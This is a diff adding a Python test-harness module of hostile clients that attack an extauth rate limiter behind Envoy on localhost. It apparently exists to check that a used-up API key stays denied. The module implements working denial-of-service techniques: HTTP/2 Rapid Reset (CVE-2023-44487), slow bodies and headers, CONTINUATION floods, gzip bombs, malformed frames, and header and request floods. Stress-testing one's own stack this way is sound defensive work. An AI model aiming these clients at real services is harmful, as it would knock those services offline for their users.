@@ -1,0 +1,359 @@
+"""The hostile clients. Each runs in a process of its own: `python -m adversary.attacks NAME EDGE REPLICA SECONDS`.
+
+EDGE is Envoy's port and REPLICA that of an extauth's gRPC listener, on 127.0.0.1. A client ends after SECONDS and
+prints a JSON object of what it did: `sent`, `errors`, and `passed`, the requests of its own, used-up caller that got
+another answer than a denial.
+"""
+
+import asyncio
+import json
+import os
+import random
+import sys
+import time
+import zlib
+from collections.abc import Awaitable, Callable
+from dataclasses import dataclass, field
+
+from extauth.transport import frames
+from extauth.transport.frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, ErrorCode, frame
+from extauth.transport.grpc import literal, prefixed
+from extauth.transport.protobuf import bytes_field
+from extauth.transport.rls import SERVICE
+
+HOSTILE_KEY = "hostile-tier-key"  # one request a day, which is used up before
+READ_BYTES = 1 << 16
+BURST = 480  # streams opened and reset on a fresh connection
+
+
+@dataclass
+class Target:
+    """Where a client may send to, until when, and what it did."""
+
+    edge: int
+    replica: int
+    seconds: float
+    sent: int = 0
+    passed: int = 0
+    errors: int = 0
+    until: float = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.until = time.monotonic() + self.seconds
+
+    def over(self) -> bool:
+        """Whether it is to stop."""
+        return time.monotonic() >= self.until
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A hostile client; `wide`: for an Envoy with Envoy's own defaults and tracing, not for the one as shipped."""
+
+    run: Callable[[Target], Awaitable[None]]
+    wide: bool = False
+
+
+def descriptor(*entries: tuple[str, str]) -> bytes:
+    """A RateLimitRequest's field `descriptors`."""
+    pairs = (bytes_field(1, bytes_field(1, k.encode()) + bytes_field(2, v.encode())) for k, v in entries)
+    return bytes_field(2, b"".join(pairs))
+
+
+def message(*parts: bytes) -> bytes:
+    """A RateLimitRequest of the hostile caller, which is denied."""
+    return bytes_field(1, b"api") + descriptor(("api_key", HOSTILE_KEY)) + b"".join(parts)
+
+
+def head(*extra: tuple[str, str]) -> bytes:
+    """The header block of a call."""
+    usual: tuple[tuple[str, str], ...] = (
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", f"/{SERVICE}/ShouldRateLimit"),
+        (":authority", "x"),
+    )
+    usual += (("te", "trailers"), ("content-type", "application/grpc"))
+    return b"".join(literal(name.encode(), value.encode()) for name, value in (*usual, *extra))
+
+
+def call(stream: int, body: bytes, block: bytes, *, end: bool = True) -> bytes:
+    """A call in frames, within the windows that a stream begins with."""
+    parts = [body[i : i + 16_384] for i in range(0, len(body), 16_384)]
+    last = len(parts) - 1
+    data = (frame(DATA, END_STREAM if end and i == last else 0, stream, part) for i, part in enumerate(parts))
+    return frame(HEADERS, END_HEADERS, stream, block) + b"".join(data)
+
+
+class Connection:
+    """A connection that is written to as fast as its peer reads; what comes back is read and dropped."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self._reader, self._writer = reader, writer
+        self._drain = asyncio.create_task(self._drop())
+
+    @classmethod
+    async def to(cls, port: int, greeting: bytes = PREFACE + frames.settings({4: frames.MAX_WINDOW})) -> "Connection":
+        """Connect, and greet."""
+        connection = cls(*await asyncio.open_connection("127.0.0.1", port))
+        connection._writer.write(greeting)
+        return connection
+
+    async def send(self, data: bytes) -> None:
+        """Send, and wait while more than a little is unsent."""
+        self._writer.write(data)
+        await asyncio.wait_for(self._writer.drain(), 5)
+
+    async def close(self) -> None:
+        """Hang up."""
+        self._writer.close()
+        self._drain.cancel()
+        await asyncio.gather(self._drain, return_exceptions=True)
+
+    async def _drop(self) -> None:
+        while data := await self._reader.read(READ_BYTES):
+            window = frames.window_update(0, len(data))
+            if not self._writer.is_closing():
+                self._writer.write(window)
+
+
+async def repeat(target: Target, port: int, make: Callable[[int], bytes], *, per_connection: int = 1 << 20) -> None:
+    """Send what `make` gives for each odd stream, on one connection after the other, until time is over."""
+    while not target.over():
+        try:
+            connection = await Connection.to(port)
+            for stream in range(1, 2 * per_connection, 2):
+                await connection.send(make(stream))
+                target.sent += 1
+                if target.over():
+                    break
+                await asyncio.sleep(0)
+            await connection.close()
+        except (OSError, TimeoutError):
+            target.errors += 1
+            await asyncio.sleep(0.01)
+
+
+async def http1(target: Target, extra: bytes = b"", path: str = "/", *, at_once: int = 8) -> None:
+    """GETs of the hostile caller over HTTP/1.1, whose answers count: all must be denials."""
+
+    async def ask() -> None:
+        request = f"GET {path} HTTP/1.1\r\nhost: x\r\nx-api-key: {HOSTILE_KEY}\r\n".encode() + extra + b"\r\n"
+        while not target.over():
+            try:
+                reader, writer = await asyncio.open_connection("127.0.0.1", target.edge)
+                while not target.over():
+                    writer.write(request)
+                    answer = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
+                    target.sent += 1
+                    target.passed += b" 429 " not in answer.split(b"\r\n", 1)[0]
+                    lengths = [
+                        line[15:] for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length:")
+                    ]
+                    await reader.readexactly(int(lengths[0]) if lengths else 0)
+                writer.close()
+            except (OSError, TimeoutError, asyncio.IncompleteReadError):
+                target.errors += 1
+                await asyncio.sleep(0.01)
+
+    await asyncio.gather(*(ask() for _ in range(at_once)))
+
+
+async def flood(target: Target) -> None:
+    """Many requests over HTTP/1.1."""
+    await http1(target, at_once=64)
+
+
+def tracestate(size: int) -> Callable[[Target], Awaitable[None]]:
+    """A `tracestate` that Envoy's tracing passes on with each call."""
+
+    async def run(target: Target) -> None:
+        trace = b"00-%032x-%016x-01" % (random.getrandbits(128), random.getrandbits(64))
+        await http1(target, b"traceparent: " + trace + b"\r\ntracestate: a=" + b"x" * size + b"\r\n")
+
+    return run
+
+
+async def many_headers(target: Target) -> None:
+    """As many headers as Envoy lets through."""
+    await http1(target, b"".join(b"x-%d: %s\r\n" % (i, b"y" * 500) for i in range(80)))
+
+
+async def long_path(target: Target) -> None:
+    """A path that two descriptors quote, so that the call is larger than the request."""
+    await http1(target, path="/" + "p" * 32_759)
+
+
+def resets(bursts_per_s: int) -> Callable[[Target], Awaitable[None]]:
+    """Bursts of requests that are reset at once, each on a fresh connection to Envoy (CVE-2023-44487)."""
+
+    async def run(target: Target) -> None:
+        fields = (
+            (":method", "GET"),
+            (":scheme", "http"),
+            (":path", "/"),
+            (":authority", "x"),
+            ("x-api-key", HOSTILE_KEY),
+        )
+        block = b"".join(literal(name.encode(), value.encode()) for name, value in fields)
+        streams = range(1, 2 * BURST, 2)
+        burst = b"".join(
+            frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frames.rst_stream(s, ErrorCode.CANCEL) for s in streams
+        )
+        begin = time.monotonic()
+        open_connections: list[Connection] = []
+        for number in range(int(target.seconds * bursts_per_s)):
+            await asyncio.sleep(max(begin + number / bursts_per_s - time.monotonic(), 0))
+            if target.over():
+                break
+            try:
+                connection = await Connection.to(target.edge)
+                await connection.send(burst)
+                open_connections.append(connection)
+                target.sent += BURST
+            except (OSError, TimeoutError):
+                target.errors += 1
+            while len(open_connections) > 50:
+                await open_connections.pop(0).close()
+        for connection in open_connections:
+            await connection.close()
+
+    return run
+
+
+async def direct_resets(target: Target) -> None:
+    """Calls that are reset at once, at extauth itself."""
+    block, body = head(), prefixed(message())
+    await repeat(target, target.replica, lambda s: call(s, body, block) + frames.rst_stream(s, ErrorCode.CANCEL))
+
+
+async def control_frames(target: Target) -> None:
+    """PING, SETTINGS, WINDOW_UPDATE and PRIORITY, between calls now and then."""
+    noise = frame(frames.PING, 0, 0, b"12345678") + frames.settings({4: 1000, 5: 16_384}) + frames.window_update(0, 1)
+    noise += frame(frames.PRIORITY, 0, 1, b"\0\0\0\x03\x10")
+    block, body = head(), prefixed(message())
+    await repeat(target, target.replica, lambda s: noise * 16 + (call(s, body, block) if s % 64 == 1 else b""))
+
+
+async def slow_bodies(target: Target) -> None:
+    """Many messages that stop a byte before their end, on many connections."""
+    block = head()
+    whole = prefixed(message(bytes_field(9, bytes(60_000))))
+
+    async def hold() -> None:
+        connection = await Connection.to(target.replica)
+        for stream in range(1, 200, 2):
+            await connection.send(call(stream, whole[:-1], block, end=False))
+            target.sent += 1
+            if target.over():
+                break
+            await asyncio.sleep(0.01)
+        await asyncio.sleep(max(target.until - time.monotonic(), 0))
+        await connection.close()
+
+    results = await asyncio.gather(*(hold() for _ in range(30)), return_exceptions=True)
+    target.errors += sum(isinstance(result, Exception) for result in results)
+
+
+async def slow_headers(target: Target) -> None:
+    """Header blocks that never end, on many connections."""
+
+    async def hold() -> None:
+        connection = await Connection.to(target.replica)
+        await connection.send(frame(HEADERS, 0, 1, head()))
+        for _ in range(60):
+            await connection.send(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 16_000)))
+            target.sent += 1
+            if target.over():
+                break
+            await asyncio.sleep(0.01)
+        await asyncio.sleep(max(target.until - time.monotonic(), 0))
+        await connection.close()
+
+    results = await asyncio.gather(*(hold() for _ in range(100)), return_exceptions=True)
+    target.errors += sum(isinstance(result, Exception) for result in results)
+
+
+async def impatient(target: Target) -> None:
+    """Calls that give up after a millisecond."""
+    block, body = head(("grpc-timeout", "1m")), prefixed(message())
+    await repeat(target, target.replica, lambda s: call(s, body, block))
+
+
+async def swelling(target: Target) -> None:
+    """Messages that are small while they are compressed."""
+    block = head(("grpc-encoding", "gzip"))
+    packed = zlib.compress(message(bytes_field(9, b"z" * 60_000)), wbits=31)
+    body = b"\x01" + len(packed).to_bytes(4, "big") + packed
+    await repeat(target, target.replica, lambda s: call(s, body, block))
+
+
+async def malformed(target: Target) -> None:
+    """Calls that are none, and frames that break HTTP/2, on fresh connections."""
+    block = head()
+    breaking = (
+        frame(frames.PUSH_PROMISE, 0, 1, bytes(4)),
+        frame(HEADERS, END_HEADERS, 9_999_999, b"\xff\xff\xff"),
+        frame(DATA, 0, 0, b"x"),
+        frames.window_update(0, 0),
+        b"GET / HTTP/1.1\r\n\r\n",
+    )
+
+    def make(stream: int) -> bytes:
+        if stream % 32 == 31:
+            return breaking[stream // 32 % len(breaking)]
+        return call(stream, prefixed(b"\xff" if stream % 4 == 1 else b""), block)
+
+    await repeat(target, target.replica, make, per_connection=16)
+
+
+async def call_flood(target: Target) -> None:
+    """More calls at once than may be open, on several connections."""
+    block, body = head(), prefixed(message())
+
+    async def one() -> None:
+        await repeat(target, target.replica, lambda s: b"".join(call(s * 64 + 2 * i, body, block) for i in range(32)))
+
+    await asyncio.gather(*(one() for _ in range(8)))
+
+
+async def descriptors(target: Target) -> None:
+    """Calls with more descriptors than are evaluated."""
+    block = head()
+    body = prefixed(message(*(descriptor(("n", str(i))) for i in range(200))))
+    await repeat(target, target.replica, lambda s: call(s, body, block))
+
+
+ATTACKS = {
+    "flood": Attack(flood),
+    "resets_5k": Attack(resets(10)),
+    "resets_20k": Attack(resets(40)),
+    "resets_100k": Attack(resets(200)),
+    "direct_resets": Attack(direct_resets),
+    "control_frames": Attack(control_frames),
+    "slow_bodies": Attack(slow_bodies),
+    "slow_headers": Attack(slow_headers),
+    "impatient": Attack(impatient),
+    "swelling": Attack(swelling),
+    "malformed": Attack(malformed),
+    "call_flood": Attack(call_flood),
+    "descriptors": Attack(descriptors),
+    "tracestate_16k": Attack(tracestate(16_000), wide=True),
+    "tracestate_55k": Attack(tracestate(55_000), wide=True),
+    "many_headers": Attack(many_headers, wide=True),
+    "long_path": Attack(long_path, wide=True),
+}
+
+
+async def main() -> None:
+    """Run one."""
+    name, edge, replica, seconds = sys.argv[1:]
+    target = Target(int(edge), int(replica), float(seconds))
+    async with asyncio.timeout(target.seconds + 20):
+        await ATTACKS[name].run(target)
+    print(json.dumps({"sent": target.sent, "passed": target.passed, "errors": target.errors}))
+
+
+if __name__ == "__main__":
+    os.nice(5)  # a client elsewhere takes no time from the stack
+    asyncio.run(main())
